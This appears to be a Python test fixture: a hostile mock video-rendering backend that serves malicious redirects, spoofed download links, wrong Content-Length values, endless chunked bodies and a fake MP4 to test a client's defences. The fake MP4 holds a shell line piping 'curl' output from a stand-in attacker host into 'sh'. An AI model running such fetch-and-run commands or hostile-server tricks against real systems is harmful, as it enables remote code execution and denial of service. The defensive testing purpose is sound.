#!/usr/bin/env python3
"""A hostile NemoVideo backend for the attack tests (issue 11).

It is the reference backend (refbackend.py) with a few things a malicious
or compromised server could do on top, so each attack class has a test
that stays fixed:

  attack(render_url=...)    a finished render's download link points where
                            the attacker wants ("{base}" is this server);
  attack(render_size=N)     the size the render reports (None: not said);
  attack(redirect_status=URL)  render status reads answer 302 to URL;
  attack(render_progress=V) the progress a render still running reports
                            (such as "nan%"; issue 11, finding 16);
  on_session(fn)            fn() runs while the client creates a session,
                            which the upload tool does after checking the
                            files and before sending them: the moment a
                            local attacker would swap a symlink, grow or
                            shrink a file.

and bodies served at /evil/<kind> (every request is logged like the
others, so a test can prove that none arrived):

  fake_mp4     "#   ftyp" followed by shell lines (issue 11, finding 2)
  endless      a valid MP4 start (ftyp, moov, mdat of size 0 = "to the
               end") followed by zeros without end (chunked, no length)
  long_length  Content-Length far above the body, then the connection
               closes after the real (valid) MP4
  short_length Content-Length 1000 for a 2 KB MP4
  big_length   Content-Length 10 GiB
  mp4          the reference backend's valid sample MP4 (as a "local
               service" that must never be called)

Python 3 standard library only. Start it like the reference backend:
HostileBackend(...).start() in a thread (tests), or
`python3 tests/backend/hostile.py --port 0` (prints READY <url>).
"""
import argparse
import os
import re
import signal
import sys
import threading
from http.server import ThreadingHTTPServer
from urllib.parse import unquote

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from refbackend import (Backend, ClientGone, Handler, RefBackend,  # noqa
                        RefServer)

# The endless body stops on its own after this much (the client is meant
# to give up long before: the test sets a far smaller cap).
ENDLESS_MAX = 1 << 30
FAKE_MP4 = (b"#   ftypisom\n"
            b"echo 'this ran from a downloaded \"video\"' > /tmp/owned\n"
            b"curl -s http://attacker.invalid/x | sh\n")


def box(kind, payload):
    return (8 + len(payload)).to_bytes(4, "big") + kind + payload


class HostileState(Backend):
    def __init__(self, *a, **kw):
        super().__init__(*a, **kw)
        self.attack = {}
        self.session_hook = None

    def render_view(self, r):
        view = super().render_view(r)
        with self.lock:
            progress = self.attack.get("render_progress")
        if progress is not None and view.get("status") != "completed":
            view["progress"] = progress
        out = view.get("output")
        if view.get("status") != "completed" or not isinstance(out, dict):
            return view
        with self.lock:
            url, size = self.attack.get("render_url"), self.attack.get(
                "render_size", "keep")
        if url:
            out["url"] = url.replace("{base}", self.base_url)
        if size is None:
            out.pop("size", None)
        elif size != "keep":
            out["size"] = size
        return view


EVIL_ROUTE = re.compile(r"/evil/([a-z0-9_]+)$")


class HostileHandler(Handler):
    def route(self, method, path):
        m = EVIL_ROUTE.match(path)
        if m and method == "GET":
            return self.h_evil(unquote(m.group(1)))
        if path == "/api/tasks/me/with-session/nemo_agent" and \
                self.B.session_hook:
            hook, self.B.session_hook = self.B.session_hook, None
            hook()
        target = self.B.attack.get("redirect_status")
        if target and method == "GET" and \
                path.startswith("/api/render/proxy/lambda/"):
            self.B.update_entry(self.entry, status=302, code=None)
            self.send_raw(302, b"", "text/plain",
                          [("Location", target.replace("{base}",
                                                       self.B.base_url))])
            return None
        return super().route(method, path)

    def send_raw(self, status, body, ctype, headers=(), length=None):
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        if length is not False:
            self.send_header("Content-Length",
                             str(len(body) if length is None else length))
        for k, v in headers:
            self.send_header(k, v)
        self.mark_done()
        self.end_headers()
        self.responded = True
        try:
            self.wfile.write(body)
            self.wfile.flush()
        except OSError as e:
            raise ClientGone() from e

    def h_evil(self, kind):
        mp4 = self.B.sample_mp4
        self.B.update_entry(self.entry, status=200, code=None)
        if kind == "fake_mp4":
            self.send_raw(200, FAKE_MP4, "video/mp4")
        elif kind == "mp4":
            self.send_raw(200, mp4, "video/mp4")
        elif kind == "short_length":
            self.close_connection = True
            self.send_raw(200, mp4, "video/mp4", length=1000)
        elif kind == "long_length":
            self.close_connection = True
            self.send_raw(200, mp4, "video/mp4", length=len(mp4) * 1000)
        elif kind == "big_length":
            self.close_connection = True
            self.send_raw(200, mp4[:1024], "video/mp4", length=10 << 30)
        elif kind == "endless":
            self.endless()
        else:
            self.reply(404, 404, "no such attack: " + kind)

    def endless(self):
        head = box(b"ftyp", b"isom" + bytes(4) + b"isomiso2") + \
            box(b"moov", bytes(100)) + bytes(4) + b"mdat"
        self.close_connection = True
        self.send_raw(200, b"", "video/mp4",
                      [("Transfer-Encoding", "chunked")], length=False)
        zeros, sent = bytes(1 << 16), 0
        try:
            self.wfile.write(b"%x\r\n%s\r\n" % (len(head), head))
            while sent < ENDLESS_MAX:
                self.wfile.write(b"%x\r\n%s\r\n" % (len(zeros), zeros))
                sent += len(zeros)
        except OSError as e:
            raise ClientGone() from e


class HostileServer(RefServer):
    def __init__(self, addr, backend):
        self.backend = backend
        ThreadingHTTPServer.__init__(self, addr, HostileHandler)
        host = addr[0] if addr[0] not in ("", "0.0.0.0") else "127.0.0.1"
        backend.base_url = "http://%s:%d" % (host, self.server_port)


class HostileBackend(RefBackend):
    """RefBackend's helper with the hostile server (thread mode only)."""

    def start(self):
        self.backend = HostileState(self.seed, self.data_dir, self.verbose)
        self.server = HostileServer((self.host, self.port), self.backend)
        self.url = self.backend.base_url
        self.thread = threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.05},
            daemon=True)
        self.thread.start()
        self.port = int(self.url.rsplit(":", 1)[1])
        if self.initial_config:
            self.config(**self.initial_config)
        return self

    def attack(self, **changes):
        with self.backend.lock:
            self.backend.attack.update(changes)

    def on_session(self, fn):
        self.backend.session_hook = fn

    def evil_requests(self):
        return self.requests("/evil/")


def main(argv=None):
    ap = argparse.ArgumentParser(description="hostile NemoVideo backend")
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--render-url", default=None)
    args = ap.parse_args(argv)
    state = HostileState(0, None, False)
    if args.render_url:
        state.attack["render_url"] = args.render_url
    server = HostileServer((args.host, args.port), state)

    def on_signal(signum, frame):
        threading.Thread(target=server.shutdown, daemon=True).start()

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    sys.stdout.write("READY %s\n" % state.base_url)
    sys.stdout.flush()
    try:
        server.serve_forever(poll_interval=0.2)
    finally:
        state.close()
        server.server_close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
